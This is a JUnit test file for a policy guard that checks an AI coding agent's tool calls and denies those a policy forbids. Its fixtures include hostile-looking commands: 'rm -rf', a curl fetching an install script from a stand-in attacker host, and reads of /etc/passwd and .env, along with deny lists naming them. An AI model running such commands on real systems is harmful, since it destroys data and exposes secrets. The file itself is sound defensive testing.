package io.github.agentstrace.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.agentstrace.json.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The verdict on a PreToolUse payload, the decision JSON Claude Code reads, and the denial the session keeps. */
class HookGuardTest {
    private static final Path PROJECT = Path.of(PolicyCheckTest.ROOT);

    private static Map<String, Object> payload(String tool, String inputJson) {
        return Json.asObject(Json.parse(("{\"session_id\":\"s1\",\"hook_event_name\":\"PreToolUse\",\"tool_name\":\""
                + tool + "\",\"tool_input\":" + inputJson + ",\"tool_use_id\":\"toolu_1\"}").getBytes(StandardCharsets.UTF_8)));
    }

    private static CallDecision decide(String policyJson, String tool, String inputJson) {
        return HookGuard.decide(PolicyCheckTest.policy(policyJson), payload(tool, inputJson), PROJECT,
                PolicyCheckTest.HOME);
    }

    @Test
    void deniedCommand_printsClaudeCodesDecisionWithAReasonNamingTheRule() {
        CallDecision d = decide("{\"commands\": {\"deny\": [\"rm -rf\"]}}", "Bash", "{\"command\": \"rm -rf build\"}");
        assertTrue(d.denied());
        assertEquals("{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"deny\","
                + "\"permissionDecisionReason\":\"agent-strace policy (test.json) denies this call: it runs \\\"rm -rf"
                + " build\\\", which commands.deny lists (\\\"rm -rf\\\").\"}}", HookGuard.output(d));
    }

    @Test
    void allowedCall_isNotDeniedAndFlagsAloneDoNotDeny() {
        assertFalse(decide("{\"commands\": {\"deny\": [\"rm -rf\"]}}", "Bash", "{\"command\": \"ls -la\"}").denied());
        // A sensitive file is flagged, but only sensitive.deny makes it a reason to stop the call.
        CallDecision flagged = decide("{}", "Read", "{\"file_path\": \"" + PolicyCheckTest.ROOT + "/.env\"}");
        assertFalse(flagged.denied());
        assertFalse(flagged.findings().isEmpty(), "the flag is still a finding");
        assertNull(flagged.first());
        assertTrue(decide("{\"sensitive\": {\"deny\": true}}", "Read",
                "{\"file_path\": \"" + PolicyCheckTest.ROOT + "/.env\"}").denied());
    }

    @Test
    void everyRuleKindDeniesAtTheCall() {
        assertEquals("files.write.deny", rule("{\"files\": {\"write\": {\"deny\": [\"src/main/**\"]}}}", "Edit",
                "{\"file_path\": \"" + PolicyCheckTest.ROOT + "/src/main/App.java\", \"old_string\": \"a\", \"new_string\": \"b\"}"));
        assertEquals("files.read.allow", rule("{\"files\": {\"read\": {\"allow\": [\"src/**\"]}}}", "Read",
                "{\"file_path\": \"/etc/passwd\"}"));
        assertEquals("network.deny", rule("{\"network\": {\"deny\": [\"evil.example\"]}}", "WebFetch",
                "{\"url\": \"https://evil.example/x\", \"prompt\": \"p\"}"));
        assertEquals("network.deny", rule("{\"network\": {\"deny\": [\"evil.example\"]}}", "Bash",
                "{\"command\": \"curl -s https://evil.example/install.sh\"}"));
        assertEquals("tools.deny", rule("{\"tools\": {\"deny\": [\"mcp__fs__move_file\"]}}", "mcp__fs__move_file",
                "{\"source\": \"a\", \"destination\": \"b\"}"));
        assertEquals("commands.allow", rule("{\"commands\": {\"allow\": [\"mvn *\"]}}", "Bash",
                "{\"command\": \"npm publish\"}"));
    }

    private static String rule(String policyJson, String tool, String inputJson) {
        CallDecision d = decide(policyJson, tool, inputJson);
        assertTrue(d.denied(), tool + " " + inputJson);
        return d.first().rule().id();
    }

    @Test
    void denial_carriesTheRuleThePatternAndEveryBlockingFinding() {
        CallDecision d = decide("{\"commands\": {\"deny\": [\"rm -rf\"]}, \"network\": {\"deny\": [\"evil.example\"]}}",
                "Bash", "{\"command\": \"rm -rf x && curl https://evil.example\"}");
        Map<String, Object> denial = d.denial("error");
        assertEquals(List.of("error", "error_type", "denied_by", "policy"), List.copyOf(denial.keySet()));
        assertEquals(d.reason(), denial.get("error"));
        assertEquals("policy_denied", denial.get("error_type"));
        assertEquals("policy", denial.get("denied_by"));
        Map<String, Object> p = Json.asObject(denial.get("policy"));
        assertEquals("test.json", p.get("file"));
        assertEquals("commands.deny", p.get("rule"));
        assertEquals("rm -rf", p.get("pattern"));
        assertEquals(2, Json.asArray(p.get("findings")).size());
        assertTrue(d.reason().contains("; it reaches evil.example"), d.reason());
        assertEquals("message", d.denial("message").keySet().iterator().next(), "the proxy keeps an error's text as message");
    }

    @Test
    void reason_isCutForClaudeCodesOutputLimit() {
        String longCommand = "rm -rf " + "x".repeat(20_000);
        CallDecision d = decide("{\"commands\": {\"deny\": [\"rm -rf\"]}}", "Bash",
                "{\"command\": \"" + longCommand + "\"}");
        // Claude Code caps hook output strings at 10,000 characters: the reason is cut well within that.
        assertTrue(d.reason().length() < 10_000, "reason length " + d.reason().length());
        assertTrue(d.reason().startsWith("agent-strace policy (test.json) denies this call: it runs \"rm -rf xxx"),
                d.reason().substring(0, 80));
        assertTrue(HookGuard.output(d).length() < 10_000);
    }

    @Test
    void noToolName_isNotDenied() {
        Map<String, Object> p = Json.asObject(Json.parse("{\"hook_event_name\":\"PreToolUse\"}".getBytes(StandardCharsets.UTF_8)));
        assertFalse(HookGuard.decide(PolicyCheckTest.policy("{\"tools\": {\"allow\": [\"Read\"]}}"), p, PROJECT,
                PolicyCheckTest.HOME).denied());
    }

    @Test
    void project_isClaudesProjectDirElseThePayloadsCwd() {
        Map<String, Object> p = Json.asObject(Json.parse("{\"cwd\":\"/work/x\"}".getBytes(StandardCharsets.UTF_8)));
        assertEquals(Path.of("/p"), HookGuard.project(Map.of("CLAUDE_PROJECT_DIR", "/p"), p, Path.of("/here")));
        assertEquals(Path.of("/work/x"), HookGuard.project(Map.of(), p, Path.of("/here")));
        assertEquals(Path.of("/here"), HookGuard.project(Map.of(), Map.of(), Path.of("/here")));
    }
}
